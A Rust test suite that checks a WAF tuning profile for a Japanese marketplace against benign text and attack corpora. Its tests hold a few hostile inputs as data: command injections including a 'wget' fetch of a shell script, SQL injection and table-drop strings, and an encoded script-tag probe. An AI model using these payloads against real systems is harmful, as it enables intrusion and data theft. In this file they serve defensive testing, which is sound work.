//! The anshin tuning profile against what marketplace members really type
//! (`corpus/benign.txt`) and against attacks (`corpus/attacks.txt`), at
//! paranoia level 1, each entry sent as a query parameter, an urlencoded
//! form field and a JSON string, each on a route that declares the field
//! as prose ([`prose_fields`]):
//!
//! * with the profile, no benign entry is blocked;
//! * the profile blocks every (attack, shape) that stock CRS blocks.
//!
//! Counts are printed (`cargo test -p anshin-waf --test corpus -- --nocapture`).

use std::path::PathBuf;

use anshin_waf::{
    ANSHIN_PROFILE, ANSHIN_PROFILE_BEFORE, LoadOptions, ProseField, RECOMMENDED_BASE_RULES,
    Request, RuleSet, prose_field_rules,
};

fn crs_paths() -> Vec<String> {
    let rules = std::env::var("ANSHIN_WAF_CRS_RULES")
        .unwrap_or_else(|_| "/usr/share/modsecurity-crs/rules".into());
    let setup = std::env::var("ANSHIN_WAF_CRS_SETUP")
        .unwrap_or_else(|_| "/etc/modsecurity/crs/crs-setup.conf".into());
    vec![setup, format!("{rules}/*.conf")]
}

/// The routes the corpus requests use, and their prose fields (what a
/// marketplace declares: search, the item form, the item API).
fn prose_fields() -> Vec<ProseField> {
    vec![
        ProseField::new("GET", "/search", "q"),
        ProseField::new("POST", "/shop/items/new", "title"),
        ProseField::new("POST", "/shop/items/new", "description"),
        ProseField::new("POST", "/api/v1/items", "title"),
        ProseField::new("POST", "/api/v1/items", "description"),
    ]
}

fn load(profile: bool) -> RuleSet {
    load_with(profile, &prose_fields())
}

fn load_with(profile: bool, prose: &[ProseField]) -> RuleSet {
    let mut before = vec![RECOMMENDED_BASE_RULES.to_owned()];
    let mut after = Vec::new();
    if profile {
        before.push(ANSHIN_PROFILE_BEFORE.to_owned());
        before.push(prose_field_rules(prose).unwrap());
        after.push(ANSHIN_PROFILE.to_owned());
    }
    RuleSet::load(
        &crs_paths(),
        &LoadOptions {
            paranoia_level: Some(1),
            inbound_anomaly_threshold: Some(5),
            directives_before: before,
            directives_after: after,
            ..LoadOptions::default()
        },
    )
    .expect("CRS 3.3.4 installed (apt-get install modsecurity-crs)")
}

fn corpus(name: &str) -> Vec<String> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("corpus")
        .join(name);
    std::fs::read_to_string(&path)
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(str::to_owned)
        .collect()
}

/// Form encoding as browsers do it (`application/x-www-form-urlencoded`).
fn form_encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'*' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn json_string(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

#[derive(Clone, Copy, Debug)]
enum Shape {
    Query,
    Form,
    Json,
}

const SHAPES: [Shape; 3] = [Shape::Query, Shape::Form, Shape::Json];

/// The request a browser (or the site's own JS) sends with `text` in a
/// field, with ordinary browser headers.
fn request(text: &str, shape: Shape) -> Request {
    let mut headers: Vec<(String, Vec<u8>)> = vec![
        ("Host".into(), b"shop.example.jp".to_vec()),
        (
            "User-Agent".into(),
            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".to_vec(),
        ),
        (
            "Accept".into(),
            b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8".to_vec(),
        ),
        (
            "Accept-Language".into(),
            b"ja,en-US;q=0.7,en;q=0.3".to_vec(),
        ),
        ("Accept-Encoding".into(), b"gzip, deflate, br".to_vec()),
    ];
    let (method, uri, body) = match shape {
        Shape::Query => (
            "GET",
            format!("/search?q={}&page=1", form_encode(text)),
            String::new(),
        ),
        Shape::Form => {
            headers.push((
                "Content-Type".into(),
                b"application/x-www-form-urlencoded".to_vec(),
            ));
            (
                "POST",
                "/shop/items/new".to_owned(),
                format!(
                    "csrf_token=3q2-7w_Xk9&title=item&description={}",
                    form_encode(text)
                ),
            )
        }
        Shape::Json => {
            headers.push(("Content-Type".into(), b"application/json".to_vec()));
            (
                "POST",
                "/api/v1/items".to_owned(),
                format!(r#"{{"title":"item","description":{}}}"#, json_string(text)),
            )
        }
    };
    if !body.is_empty() {
        headers.push(("Content-Length".into(), body.len().to_string().into_bytes()));
    }
    Request {
        method: method.into(),
        uri,
        protocol: "HTTP/1.1".into(),
        headers,
        remote_addr: "198.51.100.20".into(),
        body: body.into_bytes(),
    }
}

fn blocked(rs: &RuleSet, text: &str, shape: Shape) -> Option<Vec<u64>> {
    let v = rs.evaluate(&request(text, shape));
    v.disruptive
        .map(|_| v.matches.iter().map(|m| m.rule_id).collect())
}

#[test]
fn corpora_are_big_enough() {
    assert!(corpus("benign.txt").len() >= 200);
    assert!(corpus("attacks.txt").len() >= 58);
}

#[test]
fn benign_corpus_passes_with_the_profile_at_pl1() {
    let stock = load(false);
    let tuned = load(true);
    let benign = corpus("benign.txt");
    let mut stock_fp = 0;
    let mut failures = Vec::new();
    for text in &benign {
        for shape in SHAPES {
            if let Some(ids) = blocked(&stock, text, shape) {
                stock_fp += 1;
                println!("stock CRS false positive {shape:?} {ids:?}: {text}");
            }
            if let Some(ids) = blocked(&tuned, text, shape) {
                failures.push(format!("{shape:?} {ids:?}: {text}"));
            }
        }
    }
    println!(
        "benign: {} entries x 3 shapes; stock CRS PL1 blocks {stock_fp}, with the anshin profile {}",
        benign.len(),
        failures.len()
    );
    assert!(
        failures.is_empty(),
        "false positives with the profile:\n{}",
        failures.join("\n")
    );
}

#[test]
fn profile_blocks_every_attack_stock_crs_blocks() {
    let stock = load(false);
    let tuned = load(true);
    let attacks = corpus("attacks.txt");
    let (mut n_stock, mut n_tuned, mut total) = (0, 0, 0);
    let mut lost = Vec::new();
    for text in &attacks {
        for shape in SHAPES {
            total += 1;
            let s = blocked(&stock, text, shape).is_some();
            let t = blocked(&tuned, text, shape).is_some();
            n_stock += usize::from(s);
            n_tuned += usize::from(t);
            if s && !t {
                lost.push(format!("{shape:?}: {text}"));
            }
            if !s && t {
                println!("blocked only with the profile ({shape:?}): {text}");
            } else if !s {
                println!("not blocked by stock CRS PL1 nor the profile ({shape:?}): {text}");
            }
        }
    }
    println!(
        "attacks: {} entries x 3 shapes = {total}; stock CRS PL1 blocks {n_stock}, with the anshin profile {n_tuned}",
        attacks.len()
    );
    assert!(
        lost.is_empty(),
        "blocked by stock CRS but not with the profile:\n{}",
        lost.join("\n")
    );
    assert!(n_tuned >= n_stock);
    // The corpus is attacks: most of them must be caught at PL1.
    assert!(n_tuned * 10 >= total * 8, "{n_tuned} of {total}");
}

fn get(uri: &str, host: &str) -> Request {
    Request {
        method: "GET".into(),
        uri: uri.into(),
        protocol: "HTTP/1.1".into(),
        headers: vec![
            ("Host".into(), host.as_bytes().to_vec()),
            ("User-Agent".into(), b"Mozilla/5.0".to_vec()),
            ("Accept".into(), b"*/*".to_vec()),
        ],
        remote_addr: "198.51.100.20".into(),
        body: Vec::new(),
    }
}

fn rule_ids(rs: &RuleSet, req: &Request) -> Vec<u64> {
    rs.evaluate(req).matches.iter().map(|m| m.rule_id).collect()
}

#[test]
fn profile_replacement_rules_keep_what_they_replace() {
    let stock = load(false);
    let tuned = load(true);
    // 941310 is kept for values that are not UTF-8 (the US-ASCII reading
    // of 0xBC/0xBE as < and >), and no longer fires on Japanese.
    let us_ascii_xss = "/?q=%BCscript%BEalert(1)%BC/script%BE";
    assert!(rule_ids(&stock, &get(us_ascii_xss, "shop.example.jp")).contains(&941310));
    let v = tuned.evaluate(&get(us_ascii_xss, "shop.example.jp"));
    assert!(v.matches.iter().any(|m| m.rule_id == 10310), "{v:?}");
    assert!(v.disruptive.is_some());
    // Plain Japanese from the corpus that stock 941310 blocks.
    let japanese = &format!(
        "/?q={}",
        form_encode("一点ものの木製スプーン、山桜の木から削り出しました。")
    );
    assert!(rule_ids(&stock, &get(japanese, "shop.example.jp")).contains(&941310));
    assert!(!rule_ids(&tuned, &get(japanese, "shop.example.jp")).contains(&10310));
    // 920220 checks the raw URI: "100%" typed by a member (sent as %25) is
    // fine, a broken escape sent by the client is still scored.
    let percent = "/?q=100%25%E3%80%81";
    assert!(rule_ids(&stock, &get(percent, "shop.example.jp")).contains(&920220));
    assert!(rule_ids(&tuned, &get(percent, "shop.example.jp")).is_empty());
    assert!(rule_ids(&tuned, &get("/?q=%zz", "shop.example.jp")).contains(&10220));
    // 920350: loopback hosts (the embedded default's address) only.
    for host in ["127.0.0.1:8443", "127.0.0.1"] {
        assert!(
            rule_ids(&stock, &get("/", host)).contains(&920350),
            "{host}"
        );
        assert!(rule_ids(&tuned, &get("/", host)).is_empty(), "{host}");
    }
    assert!(rule_ids(&tuned, &get("/", "[::1]:8443")).is_empty());
    assert!(rule_ids(&tuned, &get("/", "203.0.113.9")).contains(&920350));
    // The API's methods are allowed; others still score (911100).
    for (method, allowed) in [
        ("PUT", true),
        ("PATCH", true),
        ("DELETE", true),
        ("TRACE", false),
    ] {
        let mut req = get("/api/v1/preferences/language", "shop.example.jp");
        req.method = method.into();
        assert_eq!(
            !rule_ids(&tuned, &req).contains(&911100),
            allowed,
            "{method}"
        );
        assert!(rule_ids(&stock, &req).contains(&911100), "{method}");
    }
}

/// Issue 19: the prose exclusions used to hold for an argument name on
/// every path, so `/?q=a;sleep 60;` passed where `/?x=a;sleep 60;` was
/// blocked. They hold only where a route declares the field.
#[test]
fn c06_prose_exclusions_hold_only_on_the_route_that_declares_the_field() {
    let tuned = load(true);
    let blocked = |uri: &str| tuned.evaluate(&get(uri, "shop.example.jp")).disruptive;
    let sleep = "a%3Bsleep+60%3B";
    assert!(blocked(&format!("/?x={sleep}")).is_some());
    assert!(
        blocked(&format!("/?q={sleep}")).is_some(),
        "q is prose only on /search"
    );
    assert!(
        blocked(&format!("/search?q={sleep}")).is_none(),
        "the declared route"
    );
    assert!(blocked(&format!("/search?x={sleep}")).is_some());
    assert!(blocked(&format!("/search/x?q={sleep}")).is_some());
    let mut post = get(&format!("/search?q={sleep}"), "shop.example.jp");
    post.method = "POST".into();
    assert!(
        tuned.evaluate(&post).disruptive.is_some(),
        "declared for GET only"
    );
    // The JSON and form shapes of the item routes: the declared fields
    // pass, the same text in an undeclared field does not.
    let text = "Tea towels | set of 3; wash & dry";
    assert!(blocked_with(&tuned, text, Shape::Form, "description").is_none());
    assert!(blocked_with(&tuned, text, Shape::Json, "description").is_none());
    assert!(blocked_with(&tuned, "a;sleep 60;", Shape::Form, "description").is_none());
    assert!(blocked_with(&tuned, "a;sleep 60;", Shape::Form, "note").is_some());
    assert!(blocked_with(&tuned, "a;sleep 60;", Shape::Json, "note").is_some());
    // With nothing declared, no argument is relaxed anywhere.
    let bare = load_with(true, &[]);
    let v = bare.evaluate(&get(&format!("/search?q={sleep}"), "shop.example.jp"));
    assert!(v.disruptive.is_some());
    // The narrower nets still catch attacks in a declared field.
    assert!(
        blocked(&format!(
            "/search?q={}",
            form_encode("; wget http://x/a.sh")
        ))
        .is_some()
    );
    assert!(blocked(&format!("/search?q={}", form_encode("1; DROP TABLE users"))).is_some());
}

/// The item form or API with `text` in the field `field` (and a title).
fn blocked_with(rs: &RuleSet, text: &str, shape: Shape, field: &str) -> Option<Vec<u64>> {
    let mut req = request(text, shape);
    let body = String::from_utf8(req.body.clone()).unwrap();
    let body = match shape {
        Shape::Form => body.replace("&description=", &format!("&{field}=")),
        Shape::Json => body.replace("\"description\"", &format!("\"{field}\"")),
        Shape::Query => body,
    };
    for (name, value) in &mut req.headers {
        if name == "Content-Length" {
            *value = body.len().to_string().into_bytes();
        }
    }
    req.body = body.into_bytes();
    let v = rs.evaluate(&req);
    v.disruptive
        .map(|_| v.matches.iter().map(|m| m.rule_id).collect())
}

/// 43 base64url characters from a fixed xorshift stream: the shape of
/// every token anshin sets (session, device and flash cookies, the CSRF
/// field), reproducible.
fn tokens(n: usize) -> Vec<String> {
    const B64URL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut out = Vec::with_capacity(n);
    for _ in 0..n {
        let mut t = String::with_capacity(43);
        for _ in 0..43 {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            t.push(B64URL[(x % 64) as usize] as char);
        }
        out.push(t);
    }
    // The shapes that look like SQL comments or shell words to CRS.
    out.extend(
        [
            "ab--cd-ef0123456789012345678901234567890123",
            "--_-----_________--------------------------",
            "abc--def--ghi-jkl_mno_pqr_stu_vwx_yz0123456",
            "0x1234567890abcdef--AAAAAAAAAAAAAAAAAAAAAAA",
            "eyJhbGciOi--JIUzI1NiJ9-eyJzdWIiOiIxMjM0NTY3",
        ]
        .map(str::to_owned),
    );
    out
}

/// Every token the site itself sets must pass its own WAF wherever it
/// travels: in the session and device cookies and in a form's CSRF field.
/// (A random base64url string holds `--…-` about once in 200 tokens,
/// which CRS 942440 reads as an SQL comment: that member would meet 403 on
/// every request until the session ended.)
#[test]
fn c06_the_sites_own_random_tokens_never_trip_the_waf() {
    let tuned = load(true);
    let mut failures = Vec::new();
    for t in tokens(20_000) {
        let mut cookie = request("", Shape::Query);
        cookie.uri = "/account".into();
        cookie.headers.push((
            "Cookie".into(),
            format!("__Host-anshin_session={t}; __Host-anshin_device={t}; __Host-anshin_lang=ja")
                .into_bytes(),
        ));
        let mut form = request("x", Shape::Form);
        form.body = format!("csrf_token={t}&title=item&description=x").into_bytes();
        let mut unlock = request("", Shape::Query);
        unlock.uri = format!("/login/unlock?token={t}");
        for (what, r) in [
            ("cookie", cookie),
            ("csrf field", form),
            ("unlock link", unlock),
        ] {
            let v = tuned.evaluate(&r);
            if v.disruptive.is_some() {
                let ids: Vec<u64> = v.matches.iter().map(|m| m.rule_id).collect();
                failures.push(format!("{what} {ids:?}: {t}"));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of 60,015 requests blocked, e.g.:\n{}",
        failures.len(),
        failures
            .iter()
            .take(10)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// The exemption above holds only for the token's exact shape: the same
/// cookie and fields carrying an injection are still refused.
#[test]
fn c06_an_injection_in_the_token_places_is_still_refused() {
    let tuned = load(true);
    for payload in [
        "1' OR '1'='1",
        "x' UNION SELECT password FROM members--",
        "9--prpinh4E0339IYszmgc1aAVALhI5sf3081PtCoB0' OR 1=1--",
    ] {
        let mut cookie = request("", Shape::Query);
        cookie.uri = "/account".into();
        cookie.headers.push((
            "Cookie".into(),
            format!("__Host-anshin_session={}", form_encode(payload)).into_bytes(),
        ));
        let mut form = request("x", Shape::Form);
        form.body = format!("csrf_token={}&title=item", form_encode(payload)).into_bytes();
        let mut unlock = request("", Shape::Query);
        unlock.uri = format!("/login/unlock?token={}", form_encode(payload));
        for (what, r) in [
            ("cookie", cookie),
            ("csrf field", form),
            ("unlock link", unlock),
        ] {
            assert!(
                tuned.evaluate(&r).disruptive.is_some(),
                "{what} with {payload:?} passed"
            );
        }
    }
}
